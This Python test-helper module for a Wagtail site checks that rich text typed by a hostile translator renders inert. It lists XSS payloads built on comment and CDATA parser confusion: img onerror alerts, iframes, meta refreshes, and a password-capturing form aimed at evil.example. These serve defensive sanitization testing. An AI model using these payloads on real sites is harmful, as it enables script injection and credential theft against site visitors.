"""What a hostile translator types into rich text, and checks that what readers get is inert."""

from django.contrib.auth import get_user_model

from wagtail.models import Page

import html5lib

from home.models import HomePage

# What a hostile translator can type into a segment and wagtail-localize accepts. Several are
# split by a browser into a harmless node followed by a real element.
HOSTILE = [
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(2)>-->",
    "<!---><img src=x onerror=alert(3)>-->",
    "<!--x--!><iframe src=//evil.example/></iframe>-->",
    "<![CDATA[<iframe src=//evil.example/>]]>",
    "<![CDATA[><iframe src=//evil.example/>]]>",
    "<![CdAtA[><form action=//evil.example/><input name=password></form>]]>",
    "<![temp[><meta http-equiv=refresh content=0;url=//evil.example/>]]>",
    "<![ignore[><style>body{display:none}</style>]]>",
    "<!DOCTYPE x><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<?xml version=1.0?><object data=//evil.example/></object>",
    # encoded: text that only looks like markup, and must stay text
    "&lt;!--&gt;&lt;img src=x onerror=alert(4)&gt;--&gt;",
    "<!--&gt;<img src=x onerror=alert(5)>-->",
]
# What the paragraph block and the rich-text fields of this site may hold (bold, italic, link,
# lists, h3, h4), after expansion for readers.
ALLOWED_TAGS = {"p", "br", "b", "strong", "i", "em", "a", "ol", "ul", "li", "h3", "h4"}
# Left-overs of a removed node must not show as text either. (A "?>" may: wagtail-localize itself
# writes "<![temp[…]]>" back as "<?temp[…>?&gt;", escaping that end into text.)
DECLARATION_MARKERS = ("<!", "<?", "]]&gt;")


def parse_fragment(html):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def assert_inert(html, allowed=ALLOWED_TAGS):
    """No element but ``allowed``, no event handler, nothing that points at the attacker, and no
    comment/CDATA/declaration left (neither as a node nor as visible leftovers)."""
    for element in parse_fragment(html).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            assert element.tag == "DOCUMENT_FRAGMENT", f"comment or other node in {html!r}"
            continue
        assert element.tag in allowed, f"<{element.tag}> in {html!r}"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{name} in {html!r}"
            assert "evil" not in value, f"{name}={value} in {html!r}"
    for marker in DECLARATION_MARKERS:
        assert marker not in html, f"{marker} in {html!r}"


def assert_page_inert(response):
    """The whole page: no event handler, no element that points at the attacker, no refresh;
    and inside every rich-text area, only the allowed elements."""
    assert response.status_code == 200
    document = html5lib.parse(
        response.content.decode(), treebuilder="etree", namespaceHTMLElements=False
    )
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"<{element.tag} {name}> on the page"
            assert "evil" not in value, f"<{element.tag} {name}={value}> on the page"
        assert not (element.tag == "meta" and "http-equiv" in element.attrib)
        assert element.tag not in {"iframe", "object", "embed", "frame", "form"} or (
            element.tag == "form" and "evil" not in element.get("action", "")
        )
    areas = [
        element
        for element in document.iter("div")
        if {"rich-text", "site-footer__contact"} & set(element.get("class", "").split())
    ]
    assert areas, "no rich text on the page"
    for area in areas:
        for element in area.iter():
            if element is not area and isinstance(element.tag, str):
                assert element.tag in ALLOWED_TAGS, f"<{element.tag}> in rich text"
    return document


def stored_paragraphs(page):
    page = Page.objects.get(pk=page.pk).specific
    return [raw["value"] for raw in page.body.raw_data if raw["type"] == "paragraph"]


def english_home():
    return HomePage.objects.get(locale__language_code="en", depth=2)


def superuser():
    user, _created = get_user_model().objects.get_or_create(
        username="rich-text-admin", defaults={"email": "rich-text-admin@example.org"}
    )
    user.is_superuser = user.is_staff = True
    user.save()
    return user
